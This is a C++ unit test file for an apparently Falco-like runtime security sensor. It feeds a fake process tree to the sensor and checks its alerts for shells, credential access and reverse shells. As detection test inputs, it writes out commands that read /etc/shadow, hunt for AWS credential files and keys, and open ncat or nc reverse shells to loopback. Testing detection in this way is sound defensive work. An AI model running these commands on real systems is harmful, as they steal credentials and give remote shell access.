// The pipeline on a fake proc tree, with synthetic observations pushed directly
// (like Falco's test_input engine).
#include "sandwatch/sensor/pipeline.h"

#include <gtest/gtest.h>

#include <nlohmann/json.hpp>

#include "fake_proc.h"
#include "memory_output.h"
#include "sandwatch/core/rules/loader.h"

namespace sandwatch::sensor {
namespace {

using testing::FakeProc;
using testing::FakeProcess;
using testing::MemoryOutput;
using testing::TcpLine;

class PipelineTest : public ::testing::Test {
 protected:
  PipelineTest()
      : clock_(1'800'000'000'000'000'000, 5'000'000'000),
        engine_(rules::DefaultRules().value(), {"sleep"}) {
    procfs::BaselineOptions bo;
    bo.dirs = {"/usr/bin"};
    baseline_ = procfs::Baseline::Build("/", bo).value();
    // Start-up state: init, the workload shell and its sleep.
    proc_.Add({1, 0, "sh", {"/bin/sh", "-c", "sleep 3600"}, "/usr/bin/dash", 10, {}, {}});
    proc_.Add({7, 1, "sleep", {"sleep", "3600"}, "/usr/bin/sleep", 11, {}, {}});
  }

  void MakePipeline(PipelineOptions opt = {}) {
    opt.self_pid = 999999;
    scanner_ = std::make_unique<procfs::ProcessScanner>(procfs::ProcFs(proc_.root()));
    SensorIdentity id{{"s-1", "kata", "poll", "0.1.0"}, "kata-app", "kata-demo", "h"};
    publisher_ = std::make_unique<Publisher>(id, &out_, &clock_);
    pipeline_ = std::make_unique<Pipeline>(opt, scanner_.get(), &engine_, &baseline_,
                                           publisher_.get(), &clock_);
    Scan();  // the start-up scan
  }
  void Scan() {
    Observation o;
    o.method = "poll";
    pipeline_->Process(o);
  }
  int64_t Counter(const std::string& name) {
    std::map<std::string, int64_t> c;
    pipeline_->AddCounters(&c);
    return c[name];
  }

  ManualClock clock_;
  rules::RuleEngine engine_;
  procfs::Baseline baseline_;
  FakeProc proc_;
  MemoryOutput out_;
  std::unique_ptr<procfs::ProcessScanner> scanner_;
  std::unique_ptr<Publisher> publisher_;
  std::unique_ptr<Pipeline> pipeline_;
};

TEST_F(PipelineTest, HeartbeatNamesOnlyTheCaptureSourcesThatStarted) {
  MakePipeline();
  publisher_->SetCapture({"poll"}, {{"fanotify", "fanotify_init: Operation not permitted"}});
  publisher_->PublishHeartbeat({}, 5);
  ASSERT_FALSE(out_.heartbeats.empty());
  const Heartbeat& h = out_.heartbeats.back();
  EXPECT_EQ(h.sensor.capture, "poll");
  EXPECT_EQ(h.capture_active, std::vector<std::string>{"poll"});
  EXPECT_EQ(h.capture_failed.at("fanotify"), "fanotify_init: Operation not permitted");
  publisher_->SetCapture({}, {{"poll", "no /proc"}});
  publisher_->PublishHeartbeat({}, 5);
  EXPECT_EQ(out_.heartbeats.back().sensor.capture, "none");
}

// Heartbeats keep the counter names they always had; the scanner's unreadable cmdlines
// are added into cmdline_unreadable as well as shown on their own.
TEST_F(PipelineTest, CountersKeepTheirHeartbeatNames) {
  MakePipeline();
  std::map<std::string, int64_t> c;
  pipeline_->AddCounters(&c);
  std::vector<std::string> names;
  names.reserve(c.size());
  for (const auto& [k, v] : c) names.push_back(k);
  EXPECT_EQ(names,
            (std::vector<std::string>{
                "cmdline_unreadable", "early_reads_used", "events_suppressed", "last_scan_cpu_us",
                "observations", "observations_dropped", "processes_lost", "processes_seen",
                "processes_tracked", "queue_length", "read_errors", "rule_matches",
                "scan_cpu_us_total", "scan_errors", "scanner_cmdline_unreadable", "scans"}));
  EXPECT_EQ(c["scans"], 1);
  EXPECT_EQ(c["processes_seen"], 2);
  EXPECT_EQ(c["processes_tracked"], 2);
  EXPECT_EQ(c["cmdline_unreadable"], pipeline_->counters().cmdline_unreadable +
                                         pipeline_->counters().scanner_cmdline_unreadable);
  std::map<std::string, int64_t> twice = c;
  pipeline_->AddCounters(&twice);  // adds, as every part of a heartbeat does
  EXPECT_EQ(twice["scans"], 2);
  EXPECT_EQ(twice["queue_length"], c["queue_length"]);
}

TEST_F(PipelineTest, StartupProcessesAreQuietNewOnesAreReportedWithContext) {
  MakePipeline();
  EXPECT_TRUE(out_.events.empty());
  proc_.Add({20, 0, "bash", {"/bin/bash"}, "/usr/bin/bash", 50, {}, {}});  // kubectl exec
  proc_.Add({21,
             20,
             "tail",
             {"tail", "-f", "/etc/shadow"},
             "/usr/bin/tail",
             51,
             {{3, "/etc/shadow"}},
             {}});
  Scan();
  auto shells = out_.Rule("unexpected_shell");
  ASSERT_EQ(shells.size(), 1u);
  EXPECT_EQ(shells[0].process->pid, 20);
  auto shadow = out_.Rule("shadow_file_access");
  ASSERT_EQ(shadow.size(), 1u);
  const Event& e = shadow[0];
  EXPECT_EQ(e.process->name, "tail");
  EXPECT_EQ(e.file_path, "/etc/shadow");
  ASSERT_TRUE(e.parent);
  EXPECT_EQ(e.parent->name, "bash");
  EXPECT_EQ(e.pod, "kata-app");
  EXPECT_EQ(e.sensor.id, "s-1");
  EXPECT_EQ(e.detection->method, "poll");
  EXPECT_NE(e.output.find("file=/etc/shadow"), std::string::npos) << e.output;
  // seq has no gaps and ids are unique.
  for (size_t i = 0; i < out_.events.size(); ++i) EXPECT_EQ(out_.events[i].seq, i + 1);
  EXPECT_NE(out_.events[0].id, out_.events[1].id);
  // A later scan does not report the same processes again.
  size_t n = out_.events.size();
  Scan();
  EXPECT_EQ(out_.events.size(), n);
}

TEST_F(PipelineTest, FindLoopGivesOneEventThenSuppressedCounts) {
  MakePipeline();
  proc_.Add({30,
             0,
             "sh",
             {"sh", "-c", "while true; do find ...; sleep 1; done"},
             "/usr/bin/dash",
             60,
             {},
             {}});
  for (int i = 0; i < 5; ++i) {
    int pid = 31 + i;
    proc_.Add({pid,
               30,
               "find",
               {"find", "/", "-path", "*/.aws/credentials"},
               "/usr/bin/find",
               static_cast<uint64_t>(61 + i),
               {},
               {}});
    Scan();
    proc_.Remove(pid);
    clock_.Advance(1'000'000'000);
  }
  EXPECT_EQ(out_.Rule("aws_credential_discovery").size(), 1u);
  EXPECT_EQ(Counter("events_suppressed"), 4);
  // After the window the behaviour is reported again, with the count it hid.
  clock_.Advance(400'000'000'000);
  proc_.Add(
      {40, 30, "find", {"find", "/", "-path", "*/.aws/credentials"}, "/usr/bin/find", 90, {}, {}});
  Scan();
  auto ev = out_.Rule("aws_credential_discovery");
  ASSERT_EQ(ev.size(), 2u);
  EXPECT_EQ(ev[1].fields.at("suppressed"), "4");
  // A different behaviour (other cmdline) is not suppressed.
  proc_.Add({41,
             30,
             "grep",
             {"grep", "-r", "aws_secret_access_key", "/home"},
             "/usr/bin/grep",
             91,
             {},
             {}});
  Scan();
  EXPECT_EQ(out_.Rule("aws_credential_discovery").size(), 3u);
}

TEST_F(PipelineTest, NcatExecThroughPipesIsAReverseShell) {
  MakePipeline();
  // ncat (pid 50) holds the connection and the pipe ends; its child sh has pipes on stdio.
  proc_.Add({50,
             1,
             "ncat",
             {"ncat", "--exec", "/bin/sh", "127.0.0.1", "4444"},
             "/tmp/sw-ncat",
             70,
             {{3, "socket:[888]"}, {4, "pipe:[777]"}, {5, "pipe:[778]"}},
             {TcpLine("0100007F:9C40", "0100007F:115C", "01", 888)}});
  proc_.Add({51,
             50,
             "sh",
             {"/bin/sh"},
             "/usr/bin/dash",
             71,
             {{0, "pipe:[777]"}, {1, "pipe:[778]"}, {2, "pipe:[778]"}},
             {}});
  Scan();
  for (const char* rule : {"nc_execution", "post_start_binary_execution", "reverse_shell",
                           "unexpected_shell", "suspicious_process_chain"}) {
    EXPECT_EQ(out_.Rule(rule).size(), 1u) << rule;
  }
  auto rs = out_.Rule("reverse_shell");
  ASSERT_EQ(rs.size(), 1u);
  EXPECT_EQ(rs[0].process->pid, 51);
  ASSERT_TRUE(rs[0].connection);
  EXPECT_EQ(rs[0].connection->remote, "127.0.0.1:4444");
  // Loopback is allowed by suspicious_outbound_connection.
  EXPECT_TRUE(out_.Rule("suspicious_outbound_connection").empty());
}

TEST_F(PipelineTest, ExecObservationUsesEarlyReadWhenTheProcessIsGone) {
  MakePipeline();
  Observation o;
  o.kind = Observation::Kind::kExec;
  o.method = "netlink";
  o.pid = 4000;  // not in the tree: already exited
  o.kernel_mono_ns = clock_.MonoNs();
  EarlyRead early;
  early.name = "cat";
  early.exe = "/usr/bin/cat";
  early.cmdline = {"cat", "/etc/shadow"};
  early.ppid = 1;
  o.early = early;
  clock_.Advance(2'000'000);
  pipeline_->Process(o);
  auto ev = out_.Rule("shadow_file_access");
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ev[0].detection->method, "netlink");
  EXPECT_DOUBLE_EQ(*ev[0].detection->lag_ms, 2.0);
  EXPECT_EQ(ev[0].fields.at("partial"), "true");
  EXPECT_EQ(ev[0].parent->name, "sh");
  EXPECT_EQ(Counter("early_reads_used"), 1);
  EXPECT_EQ(Counter("cmdline_unreadable"), 0);
  // Nothing at all readable: counted, nothing emitted.
  o.pid = 4001;
  o.early.reset();
  pipeline_->Process(o);
  EXPECT_EQ(Counter("processes_lost"), 1);
  EXPECT_EQ(Counter("cmdline_unreadable"), 1);
}

TEST_F(PipelineTest, FileOpenObservationFeedsFileRules) {
  MakePipeline();
  Observation o;
  o.kind = Observation::Kind::kFileOpen;
  o.method = "fanotify";
  o.pid = 7;  // the expected sleep, present at start-up
  o.path = "/root/.aws/credentials";
  o.kernel_mono_ns = clock_.MonoNs();
  pipeline_->Process(o);
  auto ev = out_.Rule("aws_credential_discovery");
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ev[0].file_path, "/root/.aws/credentials");
  EXPECT_EQ(ev[0].detection->method, "fanotify");
  EXPECT_EQ(out_.events.size(), 1u);  // only rules that used the reported path
}

TEST_F(PipelineTest, StartupProcessesAreReportedOnlyForNewFilesAndConnections) {
  proc_.Add({80, 0, "bash", {"/bin/bash"}, "/usr/bin/bash", 40, {}, {}});  // at start-up
  MakePipeline();
  // A harmless new file: the scanner reports kFdsChanged, but no rule rests on it.
  proc_.Add({80, 0, "bash", {"/bin/bash"}, "/usr/bin/bash", 40, {{5, "/var/log/app.log"}}, {}});
  for (int i = 0; i < 40; ++i) Scan();  // the round-robin fd refresh reaches every process
  EXPECT_TRUE(out_.events.empty());
  // The same start-up shell then opens /etc/shadow.
  proc_.Add({80,
             0,
             "bash",
             {"/bin/bash"},
             "/usr/bin/bash",
             40,
             {{5, "/var/log/app.log"}, {6, "/etc/shadow"}},
             {}});
  for (int i = 0; i < 40 && out_.events.empty(); ++i) Scan();
  ASSERT_EQ(out_.events.size(), 1u);
  EXPECT_EQ(out_.events[0].rule, "shadow_file_access");
  EXPECT_EQ(out_.events[0].process->pid, 80);
}

TEST_F(PipelineTest, HugeAttackerArgvIsCappedInEvents) {
  MakePipeline();
  std::string big(size_t{200} * 1024, 'A');
  proc_.Add({90, 0, "cat", {"cat", "/etc/shadow", big}, "/usr/bin/cat", 99, {}, {}});
  Scan();
  auto ev = out_.Rule("shadow_file_access");
  ASSERT_EQ(ev.size(), 1u);
  EXPECT_EQ(ev[0].fields.at("truncated"), "true");
  EXPECT_EQ(ev[0].process->cmdline[2].size(), 4096u);
  EXPECT_LE(ev[0].output.size(), 8192u);
  EXPECT_TRUE(EventFromJson(EventToJson(ev[0])).ok());
}

TEST_F(PipelineTest, OnlyTheWorkloadTreeIsWatched) {
  PipelineOptions opt;
  opt.workload_pid = 60;
  proc_.Add({60, 1, "python3", {"python3", "app.py"}, "/usr/bin/python3", 80, {}, {}});
  MakePipeline(opt);
  proc_.Add({61, 60, "sh", {"sh", "-c", "id"}, "/usr/bin/dash", 81, {}, {}});
  proc_.Add({62, 1, "cat", {"cat", "/etc/shadow"}, "/usr/bin/cat", 82, {}, {}});  // outside
  Scan();
  EXPECT_EQ(out_.Rule("unexpected_shell").size(), 1u);
  EXPECT_TRUE(out_.Rule("shadow_file_access").empty());
}

TEST_F(PipelineTest, QueueAndWorkerThread) {
  MakePipeline();
  pipeline_->Start();
  proc_.Add({70, 0, "bash", {"bash"}, "/usr/bin/bash", 95, {}, {}});
  for (int i = 0; i < 3; ++i) {
    Observation o;
    o.method = "poll";
    pipeline_->Push(o);
  }
  pipeline_->Stop();  // drains; pending scans are skipped at stop, so scan once more by hand
  Scan();
  EXPECT_EQ(out_.Rule("unexpected_shell").size(), 1u);
  EXPECT_GE(Counter("observations"), 3);
}

TEST_F(PipelineTest, ShellIsReevaluatedWhenItsPipeRelayConnectsLater) {
  MakePipeline();
  // mkfifo f; cat f | sh -i 2>&1 | (sleep; nc host port > f): the shell first.
  proc_.Add({60, 1, "cat", {"cat", "f"}, "/usr/bin/cat", 80, {{1, "pipe:[900]"}}, {}});
  proc_.Add({61,
             1,
             "sh",
             {"sh", "-i"},
             "/usr/bin/dash",
             81,
             {{0, "pipe:[900]"}, {1, "pipe:[901]"}, {2, "pipe:[901]"}},
             {}});
  Scan();
  EXPECT_TRUE(out_.Rule("reverse_shell").empty());
  // The relay connects after the shell was evaluated.
  proc_.Add({62,
             1,
             "nc",
             {"nc", "127.0.0.1", "4444"},
             "/usr/bin/nc",
             82,
             {{0, "pipe:[901]"}, {1, "/tmp/f"}, {3, "socket:[902]"}},
             {TcpLine("0100007F:9C41", "0100007F:115C", "01", 902)}});
  Scan();
  auto rs = out_.Rule("reverse_shell");
  ASSERT_EQ(rs.size(), 1u);
  EXPECT_EQ(rs[0].process->pid, 61);
  ASSERT_TRUE(rs[0].connection);
  EXPECT_EQ(rs[0].connection->remote, "127.0.0.1:4444");
  Scan();  // reported once
  EXPECT_EQ(out_.Rule("reverse_shell").size(), 1u);
}

TEST_F(PipelineTest, CommandLineOnlyMatchesAreMarkedLowConfidence) {
  MakePipeline();
  proc_.Add({70, 1, "awk", {"awk", "1", "/root/.aws/credentials"}, "/usr/bin/awk", 90, {}, {}});
  proc_.Add({71,
             1,
             "python3",
             {"python3", "x.py"},
             "/usr/bin/python3",
             91,
             {{3, "/root/.aws/credentials"}},
             {}});
  Scan();
  auto ev = out_.Rule("aws_credential_discovery");
  ASSERT_EQ(ev.size(), 2u);
  for (const auto& e : ev) {
    if (e.process->pid == 70) {
      EXPECT_EQ(e.fields.at("confidence"), "low");
    } else {
      EXPECT_EQ(e.fields.count("confidence"), 0u);  // the open was seen
    }
  }
}

}  // namespace
}  // namespace sandwatch::sensor
